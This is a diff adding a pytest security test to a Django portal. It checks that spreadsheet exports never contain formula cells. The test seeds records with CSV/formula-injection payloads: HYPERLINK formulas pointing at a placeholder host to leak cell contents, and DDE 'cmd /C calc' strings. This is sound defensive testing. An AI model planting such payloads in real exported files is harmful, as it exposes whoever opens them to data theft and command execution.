@@ -1,0 +1,178 @@
+"""Every spreadsheet the portal sends keeps user text as text: no formula cell, whatever the names say.
+
+The walk takes every URL pattern of the project from the access matrix (which fails when a pattern
+is missing from it, so a new export cannot be forgotten), fills it with objects of the hand-built
+Khối of conftest.py, and asks it with the Khối admin as it is and with ``?format=xlsx``; the
+dashboards and every drill-down with each of their parameters; the dues book of the month with the
+unpaid dues; both files of a report run built for real. Every answer that is an XLSX is opened: no
+cell is a formula (openpyxl's ``data_type 'f'``), and no sheet of the file holds a ``<f>`` element.
+A member, two cells, a task and a note are named like the payloads of a formula injection.
+"""
+
+import datetime
+import io
+import re
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from cells import services as cell_services
+from cells.models import Member, Organisation
+from lib import xlsx
+from meetings import services as meeting_services
+from meetings.models import AgendaItem, Task
+from reports import selectors, services
+from reports.models import ReportRun
+from scoring.models import AnnualRating, Inspection
+from tests.security.test_access_matrix import MATRIX
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE_MEMBER = '=HYPERLINK("http://x/?"&A1,"x")'
+HOSTILE_CELL = '=HYPERLINK("http://x/?"&B2,"Xem chi tiết")'
+HOSTILE_TEXTS = {
+    "member": HOSTILE_MEMBER,
+    "unexcused member": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "member with unpaid dues": "-2+3+cmd|' /C calc'!A0",
+    "cell": HOSTILE_CELL,
+    "other cell": "+Chi bộ B2",
+    "task": "=1+2",
+    "dues note": "\t=cmd|' /C calc'!A0",
+}
+FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[ >/]")
+
+
+@pytest.fixture
+def hostile_khoi(khoi):
+    """The Khối of conftest.py with formula-like names, and one object of every kind the URLs need."""
+    a1 = khoi.cells["A1"]
+    renamed = [(khoi.members["A1"][0], HOSTILE_TEXTS["member"]), (khoi.members["A3"][0], HOSTILE_TEXTS["unexcused member"]),
+               (khoi.members["B2"][1], HOSTILE_TEXTS["member with unpaid dues"])]
+    for member, name in renamed:
+        Member.objects.filter(pk=member.pk).update(full_name=name)
+    Organisation.objects.filter(pk=khoi.cells["A3"].pk).update(name=HOSTILE_TEXTS["cell"])
+    Organisation.objects.filter(pk=khoi.cells["B2"].pk).update(name=HOSTILE_TEXTS["other cell"])
+    Task.objects.filter(description="Báo cáo quý").update(description=HOSTILE_TEXTS["task"])
+    b2_payment = khoi.members["B2"][1].dues_payments.order_by("month").first()
+    type(b2_payment).objects.filter(pk=b2_payment.pk).update(note=HOSTILE_TEXTS["dues note"])
+
+    member = khoi.members["A1"][0]
+    meeting = khoi.regular["A1", 11]
+    open_meeting = khoi.regular["B1", 5]  # notified, not locked: it takes a document
+    document = meeting_services.meeting_document_add(
+        meeting=open_meeting, file=SimpleUploadedFile("tai-lieu.pdf", b"%PDF-1.4\n%%EOF\n"))
+    celldoc = cell_services.cell_document_upload(
+        organisation=a1, document_type=khoi.yearly, year=2026,
+        file=SimpleUploadedFile("a.pdf", b"%PDF-1.4\n%%EOF\n"), adopted_on=datetime.date(2026, 1, 5))
+    inspection = Inspection.objects.create(organisation=a1, year=2026, inspected_on=datetime.date(2026, 3, 1),
+                                           inspectors="Đ/c Kiểm Tra", findings="Sổ sách đủ")
+    notification = cell_services.notification_send(members=[member], kind="test", subject="Thông báo",
+                                                   body="Nội dung")[0]
+    run = ReportRun.objects.create(organisation=khoi.khoi, params={"year": 2026})
+    assert services.report_run_execute(run_id=run.pk), ReportRun.objects.get(pk=run.pk).error
+    objects = {
+        "cell": a1.pk, "tccs": khoi.khoi.pk, "member": member.pk, "meeting": meeting.pk,
+        "meeting_document": document.pk, "item": AgendaItem.objects.create(meeting=meeting, order=1, title="Mở đầu").pk,
+        "task": Task.objects.get(description=HOSTILE_TEXTS["task"]).pk,
+        "token": meeting_services.rsvp_token(meeting=open_meeting, member=khoi.members["B1"][0]),
+        "rating": AnnualRating.objects.filter(member=member).first().pk, "doctype": khoi.yearly.pk,
+        "celldoc": celldoc.pk, "inspection": inspection.pk, "run": run.pk, "notification": notification.pk,
+    }
+    return khoi, objects
+
+
+def _matrix_urls(objects) -> list[tuple[str, str]]:
+    urls = []
+    for name, (kwargs, get, _post) in MATRIX.items():
+        if get == "m" * len(get) or name == "logout":
+            continue  # answers GET with 405: nothing to download
+        url = reverse(name, kwargs={key: objects.get(value, value) if isinstance(value, str) else value
+                                    for key, value in kwargs.items()})
+        urls += [(name, url), (name, f"{url}?format=xlsx")]
+    return urls
+
+
+def _drill_urls(khoi) -> list[tuple[str, str]]:
+    metrics = ["org_ratings", "member_ratings", "documents", "commitments", "regular", "thematic", "forums", "visits",
+               "quality", "attendance", *selectors.WARNING_CODES]
+    urls = []
+    for scope in (khoi.khoi, khoi.a, khoi.b):
+        urls.append(("reports:dashboard", reverse("reports:dashboard", args=[scope.pk]) + "?format=xlsx&year=2026"))
+        for metric in metrics:
+            base = reverse("reports:drill", args=[scope.pk, metric]) + "?format=xlsx&year=2026"
+            variants = {
+                "org_ratings": ["&kind=tccs", "&kind=cell", "&kind=cell&level=khtnv"],
+                "member_ratings": ["", "&level=htxsnv"],
+                "documents": [f"&type={khoi.yearly.pk}", f"&type={khoi.termly.pk}"],
+                "quality": ["", "&level=tot", f"&level={selectors.UNSCORED}&in_month=1"],
+            }.get(metric, [""])
+            urls += [("reports:drill", base + variant) for variant in variants]
+    return urls
+
+
+def _formula_cells(content: bytes) -> tuple[list[str], set[str]]:
+    """The formula cells of an .xlsx (by openpyxl and in the raw XML), and every text it holds."""
+    found, texts = [], set()
+    workbook = load_workbook(io.BytesIO(content))
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+                if cell.data_type == "f":
+                    found.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and FORMULA_ELEMENT.search(archive.read(name)):
+                found.append(f"{name} holds a <f> element")
+    return found, texts
+
+
+def test_no_export_of_the_portal_holds_a_formula_cell(client_for, hostile_khoi):
+    khoi, objects = hostile_khoi
+    client = client_for(khoi.users["admin"])
+    urls = _matrix_urls(objects) + _drill_urls(khoi) + [
+        ("books_dues_xlsx", reverse("books_dues_xlsx", args=[khoi.cells["B2"].pk]) + "?thang=01/2026"),
+        ("reports:run_download", reverse("reports:run_download", args=[objects["run"], "xlsx"])),
+    ]
+    spreadsheets, formulas, texts, failures = set(), [], set(), []
+    for name, url in urls:
+        response = client.get(url)
+        if response.status_code >= 500:
+            failures.append(f"{url}: {response.status_code}")
+        if not response.get("Content-Type", "").startswith(xlsx.CONTENT_TYPE):
+            continue
+        content = b"".join(response.streaming_content) if response.streaming else response.content
+        spreadsheets.add(name)
+        found, held = _formula_cells(content)
+        formulas += [f"{url}: {cell}" for cell in found]
+        texts |= held
+    assert not failures, failures
+    # The walk reached every export the portal has: member list, dues book, dashboards, drill-downs, report run.
+    assert spreadsheets == {"member_export", "books_dues_xlsx", "reports:dashboard", "reports:drill",
+                            "reports:run_download"}, spreadsheets
+    assert not formulas, "\n".join(formulas)
+    missing = {label for label, text in HOSTILE_TEXTS.items() if text not in texts}
+    assert not missing, f"the exports never showed these names, the walk proves nothing about them: {missing}"
+
+
+def test_the_writer_keeps_every_formula_prefix_as_text():
+    workbook = xlsx.new_workbook()
+    sheet = workbook.active
+    risky = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "#N/A", HOSTILE_MEMBER]
+    xlsx.append_row(sheet, [*risky, "bình thường", 5, datetime.date(2026, 2, 5), "ký tự\x07lạ"])
+    sheet["A3"] = "=2+2"  # written around the writer: the save still catches it
+    found, texts = _formula_cells(xlsx.workbook_bytes(workbook))
+    assert not found
+    # A carriage return may read back as a line feed (XML line-end handling, depending on the parser).
+    def same(text):
+        return text.replace("\r", "\n") if isinstance(text, str) else text
+
+    assert {same(text) for text in risky} | {"=2+2", "bình thường", "ký tựlạ"} <= {same(text) for text in texts}
+    cells = {same(cell.value): cell for cell in load_workbook(io.BytesIO(xlsx.workbook_bytes(workbook))).active[1]}
+    assert all(cells[same(value)].data_type == "s" and cells[same(value)].quotePrefix for value in risky)
+    assert cells[5].data_type == "n" and not cells["bình thường"].quotePrefix
+
